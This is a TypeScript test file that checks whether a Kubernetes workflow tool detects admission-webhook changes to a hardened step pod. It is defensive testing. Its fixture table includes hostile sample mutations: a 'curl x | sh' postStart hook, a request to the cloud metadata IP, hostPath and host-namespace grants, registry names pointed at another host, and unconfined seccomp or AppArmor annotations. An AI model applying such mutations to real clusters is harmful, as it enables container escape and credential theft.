/**
 * A step pod that the API server's admission changed after the policy decided on it (red team 8,
 * finding 4; src/create/admitted.ts, src/create/step.ts). The class: what a pod is granted or runs
 * that reaches it some other way than the decision — the ServiceAccount plugin's
 * imagePullSecrets, a webhook's image pin, env, volume, hostPort, a host namespace, a looser
 * security context, a decided container changed or gone; and since issue 19's class was closed, any
 * other field (working directory, TTY, DNS, host aliases, host users, resources, volume sources,
 * ...; test/unit/pod-altered-fields.test.ts walks every field of the model). Each such change is found (table, and a
 * property over hardened pods with one change applied); what the API server only defaults is not
 * (member order, defaulted fields), nor what platform teams own (placement, added containers,
 * annotations that are no security setting); labels and security annotations are (red team 11). Through the create stage: the pod is
 * deleted, its egress policy with it, and the step gets STEP_POD_ALTERED; an adopted pod (a pass
 * that crashed after its create) is checked the same way.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { V1Container, V1ContainerPort, V1Pod, V1SecurityContext } from '@kubernetes/client-node';
import fc from 'fast-check';
import { alteredFields } from '../../src/create/admitted.ts';
import { createStepObjects } from '../../src/create/step.ts';
import { mutate, type RestrictedProfile } from '../../src/mutate/restricted.ts';
import { arbitraryPod } from '../support/pod-arbitrary.ts';
import { MemoryPods } from '../support/memory.ts';

const profile: RestrictedProfile = {
  runAsUser: 65532,
  runAsGroup: 65532,
  fsGroup: 65532,
  allowNetBindService: false,
  readOnlyRootFilesystem: true,
  tmpSize: '1Gi',
};

const decided: V1Pod = mutate(
  {
    metadata: {
      name: 'p',
      namespace: 'wf',
      labels: { 'kubiya.ai/run': 'r', 'kubiya.ai/step': 's' },
      ownerReferences: [{ apiVersion: 'kubiya.ai/v1', kind: 'WorkflowRun', name: 'r', uid: 'run-uid' }],
    },
    spec: {
      serviceAccountName: 'kubiya-workflow',
      automountServiceAccountToken: false,
      imagePullSecrets: [{ name: 'acme' }],
      nodeSelector: { pool: 'gpu' },
      tolerations: [{ key: 'nvidia.com/gpu', operator: 'Exists', effect: 'NoSchedule' }],
      volumes: [
        { name: 'workspace', emptyDir: {} },
        {
          name: 'token',
          projected: { sources: [{ serviceAccountToken: { audience: 'sts.amazonaws.com', path: 'token' } }] },
        },
      ],
      containers: [
        {
          name: 'step',
          image: 'alpine:3.19.1',
          command: ['sh', '-c', 'echo'],
          env: [{ name: 'A', value: '1' }],
          volumeMounts: [{ name: 'workspace', mountPath: '/workspace' }],
        },
      ],
    },
  },
  profile,
).pod;

type Change = [string, string, (p: V1Pod) => void];
/** One admission change per row: its name, the field it must be reported under, the change. */
const CHANGES: Change[] = [
  ['ServiceAccount pull secrets', 'spec.imagePullSecrets', (p) => p.spec!.imagePullSecrets!.push({ name: 'prod' })],
  ['another account', 'spec.serviceAccountName', (p) => (p.spec!.serviceAccountName = 'default')],
  ['token automount', 'spec.automountServiceAccountToken', (p) => (p.spec!.automountServiceAccountToken = true)],
  ['host network', 'spec.hostNetwork', (p) => (p.spec!.hostNetwork = true)],
  ['host PID', 'spec.hostPID', (p) => (p.spec!.hostPID = true)],
  ['pod runAsUser 0', 'spec.securityContext', (p) => (p.spec!.securityContext!.runAsUser = 0)],
  ['runtime class', 'spec.runtimeClassName', (p) => (p.spec!.runtimeClassName = 'unconfined')],
  ['hostPath volume', 'spec.volumes', (p) => p.spec!.volumes!.push({ name: 'h', hostPath: { path: '/' } })],
  [
    'token audience',
    'spec.volumes',
    (p) => {
      const token = p.spec!.volumes!.find((v) => v.name === 'token')!;
      token.projected!.sources![0]!.serviceAccountToken!.audience = 'kubernetes';
    },
  ],
  ['pinned image', 'spec.containers', (p) => (p.spec!.containers[0]!.image = 'alpine@sha256:' + 'a'.repeat(64))],
  ['env added', 'spec.containers', (p) => p.spec!.containers[0]!.env!.push({ name: 'AWS_ROLE_ARN', value: 'x' })],
  [
    'privilege escalation',
    'spec.containers',
    (p) => (p.spec!.containers[0]!.securityContext!.allowPrivilegeEscalation = true),
  ],
  ['hostPort', 'spec.containers', (p) => (p.spec!.containers[0]!.ports = [{ containerPort: 80, hostPort: 80 }])],
  [
    'mount made writable elsewhere',
    'spec.containers',
    (p) => p.spec!.containers[0]!.volumeMounts!.push({ name: 'workspace', mountPath: '/etc' }),
  ],
  // Red team 10, finding 2: code a webhook makes a decided container run, beside its command.
  [
    'postStart exec',
    'spec.containers',
    (p) => (p.spec!.containers[0]!.lifecycle = { postStart: { exec: { command: ['sh', '-c', 'curl x | sh'] } } }),
  ],
  [
    'preStop exec',
    'spec.containers',
    (p) => (p.spec!.containers[0]!.lifecycle = { preStop: { exec: { command: ['sh', '-c', 'id'] } } }),
  ],
  [
    'preStop HTTP GET to a host',
    'spec.containers',
    (p) => (p.spec!.containers[0]!.lifecycle = { preStop: { httpGet: { host: '169.254.169.254', port: 80 } } }),
  ],
  ['liveness exec', 'spec.containers', (p) => (p.spec!.containers[0]!.livenessProbe = { exec: { command: ['id'] } })],
  ['readiness exec', 'spec.containers', (p) => (p.spec!.containers[0]!.readinessProbe = { exec: { command: ['id'] } })],
  [
    'startup TCP to a host',
    'spec.containers',
    (p) => (p.spec!.containers[0]!.startupProbe = { tcpSocket: { host: '10.0.0.1', port: 22 } }),
  ],
  // Issue 19's class (red team 8 finding 4, red team 10 finding 2): fields the old allow-list did not compare.
  ['working directory', 'spec.containers', (p) => (p.spec!.containers[0]!.workingDir = '/etc')],
  ['stdin and a TTY', 'spec.containers', (p) => Object.assign(p.spec!.containers[0]!, { stdin: true, tty: true })],
  ['DNS servers', 'spec.dnsConfig', (p) => (p.spec!.dnsConfig = { nameservers: ['203.0.113.9'] })],
  ['DNS policy', 'spec.dnsPolicy', (p) => (p.spec!.dnsPolicy = 'Default')],
  [
    'a registry name pointed elsewhere',
    'spec.hostAliases',
    (p) => (p.spec!.hostAliases = [{ ip: '203.0.113.9', hostnames: ['ghcr.io', 'kubernetes.default.svc'] }]),
  ],
  ['host user namespace', 'spec.hostUsers', (p) => (p.spec!.hostUsers = false)],
  ['hostname', 'spec.hostname', (p) => (p.spec!.hostname = 'db')],
  ['subdomain', 'spec.subdomain', (p) => (p.spec!.subdomain = 'svc')],
  ['hostname as FQDN', 'spec.setHostnameAsFQDN', (p) => (p.spec!.setHostnameAsFQDN = true)],
  [
    'service links on (the hardened pod has them off)',
    'spec.enableServiceLinks',
    (p) => (p.spec!.enableServiceLinks = true),
  ],
  ['OS', 'spec.os', (p) => (p.spec!.os = { name: 'windows' })],
  ['a resource claim', 'spec.resourceClaims', (p) => (p.spec!.resourceClaims = [{ name: 'gpu' }])],
  [
    'resources raised',
    'spec.containers',
    (p) => (p.spec!.containers[0]!.resources = { limits: { cpu: '64', memory: '256Gi' } }),
  ],
  [
    'resize policy',
    'spec.containers',
    (p) => (p.spec!.containers[0]!.resizePolicy = [{ resourceName: 'memory', restartPolicy: 'NotRequired' }]),
  ],
  ['termination message path', 'spec.containers', (p) => (p.spec!.containers[0]!.terminationMessagePath = '/etc/x')],
  ['image pull policy', 'spec.containers', (p) => (p.spec!.containers[0]!.imagePullPolicy = 'Never')],
  [
    'env from a resource field',
    'spec.containers',
    (p) =>
      p.spec!.containers[0]!.env!.push({ name: 'M', valueFrom: { resourceFieldRef: { resource: 'limits.memory' } } }),
  ],
  [
    'env from a file key',
    'spec.containers',
    (p) =>
      p.spec!.containers[0]!.env!.push({
        name: 'K',
        valueFrom: { fileKeyRef: { volumeName: 'workspace', path: 'k', key: 'k' } },
      }),
  ],
  [
    'a block device',
    'spec.containers',
    (p) => (p.spec!.containers[0]!.volumeDevices = [{ name: 'workspace', devicePath: '/dev/xvda' }]),
  ],
  [
    'a CSI volume',
    'spec.volumes',
    (p) => p.spec!.volumes!.push({ name: 'c', csi: { driver: 'secrets-store.csi.k8s.io' } }),
  ],
  [
    'an NFS volume',
    'spec.volumes',
    (p) => p.spec!.volumes!.push({ name: 'n', nfs: { server: '10.0.0.1', path: '/' } }),
  ],
  [
    'an image volume',
    'spec.volumes',
    (p) => p.spec!.volumes!.push({ name: 'i', image: { reference: 'attacker/tools:1' } }),
  ],
  [
    'the workspace made a node-shared volume',
    'spec.volumes',
    (p) => (p.spec!.volumes![0] = { name: 'workspace', iscsi: { targetPortal: '10.0.0.1', iqn: 'i', lun: 0 } }),
  ],
  [
    'a secret volume made world-readable',
    'spec.volumes',
    (p) => p.spec!.volumes!.push({ name: 's', secret: { secretName: 's', defaultMode: 0o777 } }),
  ],
  // Red team 11: metadata. A label selects the pod into a NetworkPolicy (egress is additive); the
  // legacy AppArmor and seccomp annotations are security settings.
  ['an egress grant label added', 'metadata.labels', (p) => (p.metadata!.labels!['kubiya.ai/egress'] = 'e-other')],
  [
    "another step's label (its egress policy selects the pod)",
    'metadata.labels',
    (p) => (p.metadata!.labels!['kubiya.ai/step'] = 'deploy'),
  ],
  ['a label a platform NetworkPolicy selects', 'metadata.labels', (p) => (p.metadata!.labels!.role = 'db-client')],
  ['a decided label removed', 'metadata.labels', (p) => delete p.metadata!.labels!['kubiya.ai/run']],
  ['the labels removed', 'metadata.labels', (p) => delete p.metadata!.labels],
  [
    'AppArmor unconfined by annotation',
    'metadata.annotations',
    (p) =>
      (p.metadata!.annotations = {
        ...p.metadata!.annotations,
        'container.apparmor.security.beta.kubernetes.io/step': 'unconfined',
      }),
  ],
  [
    'seccomp unconfined by the pod annotation',
    'metadata.annotations',
    (p) =>
      (p.metadata!.annotations = {
        ...p.metadata!.annotations,
        'seccomp.security.alpha.kubernetes.io/pod': 'unconfined',
      }),
  ],
  [
    'seccomp unconfined by a container annotation',
    'metadata.annotations',
    (p) =>
      (p.metadata!.annotations = {
        ...p.metadata!.annotations,
        'container.seccomp.security.alpha.kubernetes.io/step': 'unconfined',
      }),
  ],
];

/**
 * Not compared, by design (src/create/admitted.ts): placement a platform's admission adds, and
 * containers it adds beside the decided ones (the real node's egress gate is one).
 */
const NOT_COMPARED: [string, (p: V1Pod) => void][] = [
  ['PodNodeSelector', (p) => (p.spec!.nodeSelector = { ...p.spec!.nodeSelector, pool: 'system' })],
  ['PodTolerationRestriction', (p) => p.spec!.tolerations!.push({ key: 'dedicated', operator: 'Exists' })],
  ['affinity', (p) => (p.spec!.affinity = { podAffinity: {} })],
  ['an injected init container', (p) => (p.spec!.initContainers = [{ name: 'gate', image: 'busybox:1' }])],
  ['an injected sidecar', (p) => p.spec!.containers.push({ name: 'mesh', image: 'envoy:1' })],
  ['bound to a node', (p) => (p.spec!.nodeName = 'node-1')],
  [
    'topology spread',
    (p) =>
      (p.spec!.topologySpreadConstraints = [{ maxSkew: 1, topologyKey: 'zone', whenUnsatisfiable: 'DoNotSchedule' }]),
  ],
  ['scheduling gates', (p) => (p.spec!.schedulingGates = [{ name: 'kueue.x-k8s.io/admission' }])],
  [
    'priority class',
    (p) => Object.assign(p.spec!, { priorityClassName: 'batch', priority: 1000, preemptionPolicy: 'Never' }),
  ],
  ['RuntimeClass overhead', (p) => (p.spec!.overhead = { cpu: '250m', memory: '120Mi' })],
  [
    "the real node's egress gate (src/dev/node/objects.ts)",
    (p) =>
      (p.spec!.initContainers = [
        {
          name: 'egress-gate',
          image: 'localhost/kubiya/egress-gate:1',
          imagePullPolicy: 'IfNotPresent',
          args: ['10.0.0.2', '9', '60'],
          securityContext: {
            allowPrivilegeEscalation: false,
            readOnlyRootFilesystem: true,
            capabilities: { drop: ['ALL'] },
          },
        },
      ]),
  ],
  [
    'an injected sidecar with NET_BIND_SERVICE and a container port',
    (p) =>
      p.spec!.containers.push({
        name: 'mesh',
        image: 'envoy:1',
        ports: [{ containerPort: 80 }],
        securityContext: { capabilities: { add: ['NET_BIND_SERVICE'], drop: ['ALL'] }, runAsNonRoot: true },
      }),
  ],
  [
    'an annotation that is no security setting',
    (p) => (p.metadata!.annotations = { ...p.metadata!.annotations, 'openshift.io/scc': 'restricted-v2' }),
  ],
];

/**
 * Red team 11: a container admission adds that asks, in its own fields, for a privilege the
 * restricted standard forbids; reported under its list whatever the namespace's PodSecurity label.
 */
const ESCALATING: [string, V1SecurityContext | undefined, V1ContainerPort[] | undefined][] = [
  ['privileged', { privileged: true }, undefined],
  ['privilege escalation', { allowPrivilegeEscalation: true }, undefined],
  ['root', { runAsUser: 0 }, undefined],
  ['runAsNonRoot false', { runAsNonRoot: false }, undefined],
  ['SYS_ADMIN', { capabilities: { add: ['SYS_ADMIN'] } }, undefined],
  ['NET_RAW beside NET_BIND_SERVICE', { capabilities: { add: ['NET_BIND_SERVICE', 'NET_RAW'] } }, undefined],
  ['seccomp Unconfined', { seccompProfile: { type: 'Unconfined' } }, undefined],
  ['AppArmor Unconfined', { appArmorProfile: { type: 'Unconfined' } }, undefined],
  ['unmasked /proc', { procMount: 'Unmasked' }, undefined],
  ['Windows host process', { windowsOptions: { hostProcess: true } }, undefined],
  ['SELinux user', { seLinuxOptions: { user: 'system_u' } }, undefined],
  ['SELinux role', { seLinuxOptions: { role: 'system_r' } }, undefined],
  ['SELinux type spc_t', { seLinuxOptions: { type: 'spc_t' } }, undefined],
  ['a host port', undefined, [{ containerPort: 22, hostPort: 22 }]],
];

/** What the API server only defaults or reorders: none of it is a change of a decided field. */
function defaulted(pod: V1Pod): V1Pod {
  const p = structuredClone(pod);
  const spec = p.spec!;
  spec.tolerations = [
    ...(spec.tolerations ?? []).map((t) => ({ effect: t.effect, operator: t.operator, key: t.key })),
    { key: 'node.kubernetes.io/not-ready', operator: 'Exists', effect: 'NoExecute', tolerationSeconds: 300 },
    { key: 'node.kubernetes.io/unreachable', operator: 'Exists', effect: 'NoExecute', tolerationSeconds: 300 },
    { key: 'node.kubernetes.io/memory-pressure', operator: 'Exists', effect: 'NoSchedule' },
  ];
  Object.assign(spec, { dnsPolicy: 'ClusterFirst', schedulerName: 'default-scheduler', priority: 0 });
  spec.enableServiceLinks ??= true;
  spec.terminationGracePeriodSeconds ??= 30;
  spec.restartPolicy ??= 'Always';
  spec.securityContext ??= {};
  for (const c of spec.containers) {
    c.terminationMessagePath ??= '/dev/termination-log';
    c.terminationMessagePolicy ??= 'File';
    // The tag rule: `latest`, or neither a tag nor a digest, pulls Always.
    const tag = /:([^/:@]+)(@|$)/.exec(c.image ?? '')?.[1];
    c.imagePullPolicy ??=
      tag === 'latest' || (tag === undefined && !(c.image ?? '').includes('@')) ? 'Always' : 'IfNotPresent';
    for (const p of c.ports ?? []) p.protocol ??= 'TCP';
    for (const m of c.volumeMounts ?? []) m.readOnly ??= false;
    c.securityContext = Object.fromEntries(Object.entries(c.securityContext ?? {}).reverse());
  }
  for (const v of spec.volumes ?? []) {
    if (v.projected) v.projected.defaultMode ??= 420;
    for (const s of v.projected?.sources ?? [])
      if (s.serviceAccountToken) s.serviceAccountToken.expirationSeconds ??= 3600;
  }
  p.metadata = { ...p.metadata, uid: 'u', resourceVersion: '1', creationTimestamp: new Date() };
  p.status = { phase: 'Pending' };
  return p;
}

describe('alteredFields', () => {
  test('the decided pod as the API server defaults it: nothing altered', () => {
    assert.deepEqual(alteredFields(decided, defaulted(decided)), []);
  });

  for (const [what, field, change] of CHANGES)
    test(`${what}: reported as ${field}`, () => {
      const admitted = defaulted(decided);
      change(admitted);
      assert.deepEqual(alteredFields(decided, admitted), [field]);
    });

  for (const [what, change] of NOT_COMPARED)
    test(`${what}: not compared (platform-owned)`, () => {
      const admitted = defaulted(decided);
      change(admitted);
      assert.deepEqual(alteredFields(decided, admitted), []);
    });

  for (const [what, securityContext, ports] of ESCALATING)
    test(`an injected container asking for ${what}: reported under its list`, () => {
      for (const list of ['containers', 'initContainers'] as const) {
        const admitted = defaulted(decided);
        const injected: V1Container = { name: 'injected', image: 'busybox:1' };
        if (securityContext !== undefined) injected.securityContext = securityContext;
        if (ports !== undefined) injected.ports = ports;
        admitted.spec![list] = [...(admitted.spec![list] ?? []), injected];
        assert.deepEqual(alteredFields(decided, admitted), [`spec.${list}`], list);
      }
    });

  test('the deprecated serviceAccount alias the API server writes: not altered; another account in it is', () => {
    const admitted = defaulted(decided);
    admitted.spec!.serviceAccount = admitted.spec!.serviceAccountName;
    assert.deepEqual(alteredFields(decided, admitted), []);
    admitted.spec!.serviceAccount = 'default';
    assert.deepEqual(alteredFields(decided, admitted), ['spec.serviceAccount']);
  });

  test('an unknown field (a newer API server’s): altered unless empty', () => {
    const admitted = defaulted(decided) as V1Pod & { spec: Record<string, unknown> };
    for (const empty of [null, false, '', [], {}]) {
      admitted.spec.futureField = empty;
      assert.deepEqual(alteredFields(decided, admitted), [], JSON.stringify(empty));
    }
    for (const set of [true, 0, 'x', ['x'], { a: 1 }]) {
      admitted.spec.futureField = set;
      assert.deepEqual(alteredFields(decided, admitted), ['spec.futureField'], JSON.stringify(set));
    }
    delete admitted.spec.futureField;
    // Parsed JSON can hold a `__proto__` member: it is a member like any other, never a prototype.
    const proto = JSON.parse('{"__proto__": {"x": 1}}') as Record<string, unknown>;
    assert.deepEqual(alteredFields(decided, { ...admitted, spec: Object.assign(proto, admitted.spec) }), [
      'spec.__proto__',
    ]);
    (admitted.spec.containers as unknown as Record<string, unknown>[])[0]!.futureField = 'x';
    assert.deepEqual(alteredFields(decided, admitted), ['spec.containers']);
  });

  test('a decided AppArmor annotation changed or gone: metadata.annotations; the same, kept: not altered', () => {
    const key = 'container.apparmor.security.beta.kubernetes.io/step';
    const annotated: V1Pod = {
      ...decided,
      metadata: { ...decided.metadata, annotations: { [key]: 'runtime/default' } },
    };
    const admitted = defaulted(annotated);
    assert.deepEqual(alteredFields(annotated, admitted), []);
    admitted.metadata!.annotations![key] = 'unconfined';
    assert.deepEqual(alteredFields(annotated, admitted), ['metadata.annotations']);
    delete admitted.metadata!.annotations![key];
    assert.deepEqual(alteredFields(annotated, admitted), ['metadata.annotations']);
  });

  test('a decided container gone, or renamed: spec.containers', () => {
    const admitted = defaulted(decided);
    admitted.spec!.containers[0]!.name = 'other';
    assert.deepEqual(alteredFields(decided, admitted), ['spec.containers']);
  });

  test('no pod back (or one without its spec): every decided field is altered', () => {
    assert.ok(alteredFields(decided, undefined).includes('spec.containers'));
    assert.ok(alteredFields(decided, { metadata: decided.metadata }).includes('spec.securityContext'));
  });

  test('property: any hardened pod, defaulted, is not altered; with one table change it is', () => {
    fc.assert(
      fc.property(arbitraryPod, fc.constantFrom(...CHANGES), (pod, [, field, change]) => {
        const hardened = mutate(pod, profile).pod;
        hardened.metadata = {
          ...hardened.metadata,
          labels: { ...hardened.metadata?.labels, ...decided.metadata!.labels },
        };
        hardened.spec!.imagePullSecrets ??= [];
        hardened.spec!.tolerations ??= [];
        hardened.spec!.volumes = [...(hardened.spec!.volumes ?? []), ...structuredClone(decided.spec!.volumes!)];
        hardened.spec!.containers[0]!.env ??= [];
        hardened.spec!.containers[0]!.volumeMounts ??= [];
        hardened.spec!.securityContext ??= {};
        hardened.spec!.containers[0]!.securityContext ??= {};
        assert.deepEqual(alteredFields(hardened, defaulted(hardened)), []);
        const admitted = defaulted(hardened);
        change(admitted);
        assert.ok(alteredFields(hardened, admitted).includes(field));
      }),
      { numRuns: 200 },
    );
  });
});

describe('the create stage with an admission that changes the pod', () => {
  const egress = { apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name: 'e' }, spec: {} };
  test('created then altered: deleted with its egress policy, STEP_POD_ALTERED naming the field', async () => {
    const pods = new MemoryPods();
    pods.admission = (p) => ({ ...p, spec: { ...p.spec!, imagePullSecrets: [{ name: 'prod' }] } });
    const r = await createStepObjects(egress as never, structuredClone(decided), { pods, objects: pods });
    assert.equal(r.ok ? 'created' : r.error.code, 'STEP_POD_ALTERED');
    assert.match(r.ok ? '' : r.error.message, /spec\.imagePullSecrets/);
    assert.deepEqual(pods.deleted, ['p']);
    assert.deepEqual(pods.egress, [], 'the egress policy made for it is deleted again');
  });

  test('control: an admission that only defaults keeps the pod', async () => {
    const pods = new MemoryPods();
    pods.admission = defaulted;
    const r = await createStepObjects(undefined, structuredClone(decided), { pods, objects: pods });
    assert.ok(r.ok);
    assert.deepEqual(pods.deleted, []);
  });

  test('adopting the pod a crashed pass created: checked the same way, against the whole pod', async () => {
    const pods = new MemoryPods();
    pods.admission = (p) => ({ ...p, spec: { ...p.spec!, hostPID: true } });
    await pods.create(structuredClone(decided));
    const r = await createStepObjects(undefined, structuredClone(decided), { pods, objects: pods });
    assert.equal(r.ok ? 'adopted' : r.error.code, 'STEP_POD_ALTERED');
    assert.match(r.ok ? '' : r.error.message, /spec\.hostPID/);
  });
});
